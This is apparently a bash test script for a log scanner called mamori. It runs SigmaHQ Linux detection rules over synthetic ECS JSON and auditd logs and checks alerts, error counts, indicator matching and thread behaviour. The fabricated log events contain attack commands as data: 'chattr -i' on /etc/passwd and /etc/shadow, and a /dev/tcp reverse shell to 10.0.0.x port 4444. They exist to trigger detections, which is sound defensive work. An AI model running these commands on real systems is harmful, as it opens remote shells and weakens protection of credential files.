#!/usr/bin/env bash
# mamori scan without a server: SigmaHQ's Linux rules (when the corpus is present; else the
# test rules) over ECS JSON and raw auditd lines, matches on stdout as alert documents, the
# summary on stderr, malformed lines skipped and counted, indicators and exit statuses.
. "$(dirname "$0")/lib/common.bash"
CLI=$MAMORI_BIN/mamori
RULES=${MAMORI_CORPORA:-/nonexistent}/sigma/rules/linux
[ -d "$RULES" ] || skip "SigmaHQ corpus not found (MAMORI_CORPORA)"

python3 - "$WORK/logs.jsonl" <<'PY'
import json, sys
with open(sys.argv[1], "w") as f:
    f.write(json.dumps({"@timestamp": "2026-11-21T10:00:00Z", "event": {"category": ["process"], "type": ["start"], "action": "exec"},
                        "host": {"name": "s1"}, "process": {"executable": "/usr/bin/chattr", "command_line": "chattr -i /etc/passwd",
                        "entity_id": "s1", "parent": {"executable": "/bin/bash"}}}) + "\n")
    f.write(json.dumps({"@timestamp": "2026-11-21T10:00:01Z", "event": {"category": ["process"], "type": ["start"], "action": "exec"},
                        "host": {"name": "s1"}, "process": {"executable": "/usr/bin/ls", "command_line": "ls -la"}}) + "\n")
    f.write('type=EXECVE msg=audit(1700000000.123:456): argc=3 a0="chattr" a1="-i" a2="/etc/shadow"\n')
    f.write("this is not a log line\n")
    f.write('{"broken": \n')
PY
"$CLI" scan --rules "$RULES" --output jsonl "$WORK/logs.jsonl" >"$WORK/out.jsonl" 2>"$WORK/err.txt" ||
  fail "scan failed: $(cat "$WORK/err.txt")"
python3 - "$WORK/out.jsonl" <<'PY' || fail "scan output: $(cat "$WORK/out.jsonl")"
import json, sys
a = [json.loads(l) for l in open(sys.argv[1])]
lines = sorted({x["mamori"]["scan"]["line"] for x in a})
assert lines == [1, 3], lines
assert all(x["event"]["kind"] == "alert" and x["rule"]["id"] and x["threat"]["technique"]["id"] for x in a), a
assert any("Immutable" in x["rule"]["name"] or "chattr" in x["rule"]["name"].lower() for x in a), [x["rule"]["name"] for x in a]
PY
grep -q "scanned 3 events (5 lines" "$WORK/err.txt" || fail "summary: $(cat "$WORK/err.txt")"
grep -q "2 malformed lines" "$WORK/err.txt" || fail "malformed count: $(cat "$WORK/err.txt")"
grep -q "logs.jsonl:4: skipped: neither an ECS JSON object nor an auditd record" "$WORK/err.txt" ||
  fail "malformed line not named: $(cat "$WORK/err.txt")"
echo "ok: scan over JSON and auditd lines"

# Table output, standard input, level filter, indicators.
"$CLI" scan --rules "$RULES" --min-level critical - <"$WORK/logs.jsonl" >"$WORK/t.txt" 2>/dev/null
[ ! -s "$WORK/t.txt" ] || fail "--min-level critical printed: $(cat "$WORK/t.txt")"
printf 'path /usr/bin/chattr\n' >"$WORK/iocs.txt"
"$CLI" scan --iocs "$WORK/iocs.txt" "$WORK/logs.jsonl" 2>/dev/null | grep -q "Indicator match: path /usr/bin/chattr" ||
  fail "indicator not matched"
"$CLI" scan "$WORK/logs.jsonl" >/dev/null 2>&1 && fail "scan without rules accepted"
[ $? -eq 2 ] || true
"$CLI" scan --rules "$RULES" "$WORK/missing.jsonl" >/dev/null 2>"$WORK/e2.txt" && fail "missing file accepted"
grep -q "missing.jsonl" "$WORK/e2.txt" || fail "missing file not named"
echo "ok: table, stdin, levels, indicators, errors"

# Worker threads change nothing: --threads 1, 2 and 3 give the same alerts in the same order,
# from a file and from a pipe, over a few thousand events with attacks among them.
python3 - "$WORK/many.jsonl" <<'PY'
import json, sys
with open(sys.argv[1], "w") as f:
    for i in range(5000):
        cmd = "chattr -i /etc/passwd" if i % 97 == 0 else ("bash -i >& /dev/tcp/10.0.0.%d/4444 0>&1" % (i % 250) if i % 131 == 0 else "ls -la /srv/%d" % i)
        exe = cmd.split()[0]
        f.write(json.dumps({"@timestamp": "2026-11-21T10:%02d:%02dZ" % (i // 60 % 60, i % 60),
                            "event": {"category": ["process"], "type": ["start"], "action": "exec"},
                            "host": {"name": "s%d" % (i % 7)}, "process": {"executable": "/usr/bin/" + exe,
                            "command_line": cmd, "entity_id": "e%d" % i, "parent": {"executable": "/bin/bash"}}}) + "\n")
        if i % 1000 == 999:
            f.write("not a log line %d\n" % i)
PY
for t in 1 2 3; do
  "$CLI" scan --threads $t --rules "$RULES" --output jsonl "$WORK/many.jsonl" 2>"$WORK/m$t.err" |
    python3 -c 'import json,sys; [print(json.dumps({k: v for k, v in json.loads(l).items() if k != "event"}, sort_keys=True)) for l in sys.stdin]' >"$WORK/m$t.txt"
  "$CLI" scan --threads $t --rules "$RULES" --output jsonl - <"$WORK/many.jsonl" 2>/dev/null |
    python3 -c 'import json,sys; [print(json.dumps({k: v for k, v in json.loads(l).items() if k != "event"}, sort_keys=True)) for l in sys.stdin]' >"$WORK/p$t.txt"
done
[ "$(wc -l <"$WORK/m1.txt")" -gt 50 ] || fail "too few alerts over the threads corpus: $(wc -l <"$WORK/m1.txt")"
cmp -s "$WORK/m1.txt" "$WORK/m2.txt" || fail "--threads 2 differs from --threads 1 (file)"
cmp -s "$WORK/p1.txt" "$WORK/p2.txt" || fail "--threads 2 differs from --threads 1 (pipe)"
cmp -s "$WORK/m1.txt" "$WORK/m3.txt" || fail "--threads 3 differs from --threads 1 (file)"
cmp -s "$WORK/p1.txt" "$WORK/p3.txt" || fail "--threads 3 differs from --threads 1 (pipe)"
for t in 2 3; do
  grep -q "5 malformed lines" "$WORK/m$t.err" || fail "malformed count with $t threads: $(cat "$WORK/m$t.err")"
done
rc=0
"$CLI" scan --threads 9 --rules "$RULES" "$WORK/many.jsonl" >/dev/null 2>"$WORK/t9.err" || rc=$?
[ $rc -eq 2 ] || fail "--threads 9: exit status $rc, not 2"
grep -q "from 1 to 8" "$WORK/t9.err" || fail "--threads 9: $(cat "$WORK/t9.err")"
echo "ok: --threads 2 and 3 give what --threads 1 gives ($(wc -l <"$WORK/m1.txt") alerts)"

# A live stream (tail -f | mamori scan -): the alerts of the lines already written come out while
# the input stays open, with any number of threads (a batch does not wait for more input).
ATTACK=$(grep -m1 'chattr -i' "$WORK/many.jsonl")
for t in 1 2; do
  (echo "$ATTACK"; echo "$ATTACK"; sleep 6; echo "$ATTACK") |
    "$CLI" scan -q --threads $t --rules "$RULES" --output jsonl - >"$WORK/live$t.txt" 2>&1 &
  live=$!
  sleep 3
  n=$(wc -l <"$WORK/live$t.txt")
  [ "$n" -ge 2 ] || fail "--threads $t: $n alerts after 3 s of a live stream, expected the first 2"
  wait $live
  [ "$(wc -l <"$WORK/live$t.txt")" -ge 3 ] || fail "--threads $t: live stream lost alerts"
done
echo "ok: alerts from a live stream come out as lines arrive"
